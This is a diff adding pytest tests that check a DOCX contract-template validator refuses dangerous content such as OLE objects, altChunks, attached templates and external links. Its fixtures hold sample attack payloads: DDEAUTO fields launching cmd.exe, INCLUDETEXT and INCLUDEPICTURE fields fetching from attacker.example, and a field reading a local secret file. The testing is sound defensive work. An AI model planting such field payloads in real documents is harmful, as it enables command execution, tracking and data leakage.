@@ -2,7 +2,9 @@
 import io
 import struct
 import zipfile
+from xml.sax.saxutils import escape, quoteattr
 
+import jinja2
 import pytest
 from docx import Document
 
@@ -176,6 +178,122 @@ def test_paths_leaving_the_package(name):
     assert "'..' paths" in only_reason(check(repack(bundled(), extra={name: b"<a/>"})))
 
 
+# --- what a contract may not refer to or carry inside ----------------------------------------------
+
+R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+
+
+def with_relationship(data: bytes, kind: str, target: str, external: bool = False,
+                      rels: str = "word/_rels/document.xml.rels") -> bytes:
+    """`data` with one more relationship of type `kind`, in `rels` (created when missing)."""
+    mode = ' TargetMode="External"' if external else ""
+    relationship = f'<Relationship Id="rId99" Type="{R}/{kind}" Target="{target}"{mode}/>'.encode()
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        existing = archive.read(rels) if rels in archive.namelist() else None
+    if existing is None:
+        content = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+                   b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+                   + relationship + b"</Relationships>")
+        return repack(data, extra={rels: content})
+    return repack(data, change={rels: existing.replace(b"</Relationships>", relationship + b"</Relationships>")})
+
+
+def with_body(data: bytes, xml: str) -> bytes:
+    """`data` with raw WordprocessingML added at the end of the body."""
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        document = archive.read("word/document.xml").decode()
+    position = document.rindex("<w:sectPr")
+    return repack(data, change={"word/document.xml": (document[:position] + xml + document[position:]).encode()})
+
+
+def field(instruction: str, simple: bool) -> str:
+    """A paragraph with a field: w:fldSimple, or a complex field whose instruction is split over two runs."""
+    if simple:
+        return f'<w:p><w:fldSimple w:instr={quoteattr(instruction)}><w:r><w:t>result</w:t></w:r></w:fldSimple></w:p>'
+    half = len(instruction) // 2
+    return ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+            f'<w:r><w:instrText xml:space="preserve"> {escape(instruction[:half])}</w:instrText></w:r>'
+            f'<w:r><w:instrText xml:space="preserve">{escape(instruction[half:])} </w:instrText></w:r>'
+            '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>result</w:t></w:r>'
+            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
+
+
+def test_an_external_relationship_is_refused():
+    data = with_relationship(bundled(), "hyperlink", "https://attacker.example/track.png", external=True)
+    reason = only_reason(check(data))
+    assert reason.startswith('contains external relationships (TargetMode="External")')
+    assert "hyperlink to https://attacker.example/track.png" in reason
+
+
+def test_an_ole_object_is_refused():
+    data = with_relationship(bundled(), "oleObject", "embeddings/oleObject1.bin")
+    data = with_body(data, '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" '
+                           'ProgID="Package" r:id="rId99"/></w:object></w:r></w:p>')
+    reason = only_reason(check(data))  # the relationship and the element are one thing refused
+    assert reason.startswith("contains an OLE object (") and reason.endswith("embedded objects are refused")
+    assert "word/_rels/document.xml.rels: embeddings/oleObject1.bin" in reason and "word/document.xml" in reason
+
+
+def test_an_embeddings_part_is_refused():
+    reason = only_reason(check(repack(bundled(), extra={"word/embeddings/Microsoft_Excel_Sheet1.xlsx": b"PK"})))
+    assert reason.startswith("contains embedded objects or files (OLE embeddings) "
+                             "(word/embeddings/Microsoft_Excel_Sheet1.xlsx)")
+
+
+def test_an_altchunk_is_refused():
+    data = with_relationship(repack(bundled(), extra={"word/afchunk1.mht": b"MIME-Version: 1.0"}),
+                             "aFChunk", "afchunk1.mht")
+    data = with_body(data, '<w:altChunk r:id="rId99"/>')
+    reason = only_reason(check(data))  # the relationship and the element are one thing refused
+    assert reason.startswith("contains an altChunk (content imported as is from another file) (")
+    assert "word/_rels/document.xml.rels: afchunk1.mht" in reason and "word/document.xml" in reason
+    assert reason.endswith("altChunk is refused; paste the text instead")
+
+
+def test_an_attached_template_is_refused():
+    data = with_relationship(bundled(), "attachedTemplate", "file:///C:/Templates/Evil.dotm", external=True,
+                             rels="word/_rels/settings.xml.rels")
+    reason = only_reason(check(data))
+    assert reason.startswith("contains an attached template (word/_rels/settings.xml.rels: "
+                             "file:///C:/Templates/Evil.dotm)")
+    assert "attached templates are refused" in reason
+
+
+@pytest.mark.parametrize("simple", [False, True], ids=["instrText", "fldSimple"])
+@pytest.mark.parametrize("instruction, name", [
+    (r'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"', "DDEAUTO"),
+    ('DDE "excel" "sheet1!r1c1"', "DDE"),
+    (r'INCLUDETEXT "\\\\attacker.example\\share\\clause.docx"', "INCLUDETEXT"),
+    (r'INCLUDEPICTURE "https://attacker.example/pixel.png" \d', "INCLUDEPICTURE"),
+    (r'includetext "c:\\secret.txt"', "INCLUDETEXT"),  # Word reads field names in any case
+])
+def test_fields_that_fetch_outside_content_are_refused(instruction, name, simple):
+    reason = only_reason(check(with_body(bundled(), field(instruction, simple))))
+    assert reason.startswith(f"contains a {name} field code (word/document.xml)")
+    assert "DDE, INCLUDETEXT, INCLUDEPICTURE and other fields" in reason
+
+
+def test_a_refused_field_inside_another_field_is_found():
+    nested = ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>IF 1 = 1 "</w:instrText></w:r>'
+              '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCLUDE'
+              '</w:instrText></w:r><w:r><w:instrText>TEXT "c:\\x.docx"</w:instrText></w:r>'
+              '<w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:instrText>"</w:instrText></w:r>'
+              '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
+    assert only_reason(check(with_body(bundled(), nested))).startswith("contains a INCLUDETEXT field code")
+
+
+def test_ordinary_fields_pass():
+    page = field("PAGE", simple=True) + field("NUMPAGES", simple=False) + field(r'DATE \@ "d MMMM yyyy"', True)
+    assert check(with_body(bundled(), page)) == []
+
+
+def test_a_refused_field_written_by_the_template_is_caught_by_the_sample_render():
+    # No field in the package: the template's Jinja writes one, which only the rendered document shows.
+    text = "{{ '<w:r><w:fldSimple w:instr=\"DDEAUTO c:\\\\windows\\\\calc.exe\"/></w:r>' | safe }}"
+    reason = only_reason(check(docx(text)))
+    assert reason.startswith("rendering with sample data failed: the document it made contains a DDEAUTO field code")
+
+
 # --- the Jinja source ------------------------------------------------------------------------------
 
 def test_syntax_error_with_context():
@@ -269,3 +387,9 @@ def test_render_sample_passes_only_the_kinds_variables():
     reason = validation.render_sample("service_contract", "en", docx("{{ trunk.type }}"))
     assert reason.startswith("rendering with sample data failed: undefined variable")
     assert validation.render_sample("pbx_sheet", "en", docx("{{ trunk.type }}")) is None
+
+
+def test_jinja_is_a_version_without_known_sandbox_escapes():
+    # 3.1.5 and 3.1.6 closed sandbox escapes through str.format and the attr filter.
+    version = tuple(int(part) for part in jinja2.__version__.split(".")[:3])
+    assert version >= (3, 1, 6)
